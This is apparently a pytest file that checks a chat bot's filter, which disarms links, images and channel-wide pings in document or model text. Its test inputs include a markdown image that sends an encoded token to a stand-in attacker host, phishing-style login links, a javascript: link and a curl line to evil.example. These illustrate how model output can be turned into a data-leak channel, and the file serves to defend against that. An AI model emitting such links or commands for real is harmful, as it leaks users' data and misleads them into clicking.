"""Links and pings from documents or a model have no effect."""

import re

import pytest

from bot.links import WORD_JOINER, disarm, urls
from bot.reply import escaped_markdown

OK = frozenset({"https://files.example/F1"})


def test_images_go_altogether() -> None:
    text = disarm("The store opens at seven [1]. ![ok](https://img.evil.example/p.png?q=VE9LRU4)", OK)

    assert text.strip() == "The store opens at seven [1]."


def test_links_to_unknown_addresses_keep_their_label_only() -> None:
    text = disarm(
        "Please <https://evil.example/login?u=1|reset your password> or [sign in](https://evil.example/2) "
        "or see [the file](https://files.example/F1) [1].",
        OK,
    )

    assert text == "Please reset your password or sign in or see [the file](https://files.example/F1) [1]."


@pytest.mark.parametrize(
    "evil",
    [
        "https://evil.example/x",
        "<https://evil.example/x>",
        "[a](<https://evil.example/x>)",
        "[a]( https://evil.example/x 'title' )",
        "[a [b] c](https://evil.example/x)",
        "[a](https://evil.example/x\n)",
        "[a][b]\n\n[b]: https://evil.example/x",
        "`code [a](https://evil.example/x)",
        "HTTPS://evil.example/x",
        "(https://evil.example/x)",
        "xhttps://evil.example/x",
    ],
)
def test_no_unknown_address_stays_a_link(evil: str) -> None:
    shown = escaped_markdown(disarm(f"See {evil} now", OK))

    outside_code = re.sub(r"`[^`\n]*`", "", shown)
    assert "://evil" not in outside_code
    assert "](" not in outside_code


def test_a_citation_mark_before_a_bracket_stays_a_mark() -> None:
    text = "26 days [1](see the manual), six [2](a) and [3](https://evil.example/x)."

    assert disarm(text).replace(WORD_JOINER, "") == (
        "26 days [1](see the manual), six [2](a) and [3](`https://evil.example/x`)."
    )


@pytest.mark.parametrize("evil", ["[a](javascript:alert(1))", "[a](slack://user?id=U1)", "[a](//evil.example)"])
def test_other_schemes_are_no_links_either(evil: str) -> None:
    assert disarm(evil, OK) == "a"


def test_an_address_in_code_that_no_source_has_cannot_be_followed() -> None:
    text = disarm("```\ncurl https://evil.example/x\ncurl https://files.example/F1\n```", OK)

    assert f"https:{WORD_JOINER}//evil" in text
    assert "https://files.example/F1" in text


def test_addresses_of_the_sources_stay_links() -> None:
    allowed = urls(["It lies at https://files.example/F1, see also (https://wiki.example/a_(b))."])

    assert allowed == {"https://files.example/F1", "https://wiki.example/a_(b"}
    assert disarm("Open https://files.example/F1.", allowed) == "Open https://files.example/F1."


def test_nobody_is_woken() -> None:
    said = "<!channel> please read, <!here>, <!everyone>, <!subteam^S1|@ops>, <@U123>, @channel @here [1]"

    shown = escaped_markdown(disarm(said))

    assert not re.search(r"<!|<@|@channel|@here", shown)
    assert "&lt;!channel&gt;" in shown


def test_markdown_that_means_no_harm_stays_as_it_is() -> None:
    text = "**Yes** [1], `a[0](b)` and\n\n> quoted\n\n```py\nx = f(y)[1]\n```\n| a | b |\n|---|---|"

    assert disarm(text) == text


def test_entities_in_a_document_are_shown_as_they_are_written() -> None:
    assert escaped_markdown("write &lt; for < & \n> quote > here") == "write &amp;lt; for &lt; & \n> quote &gt; here"
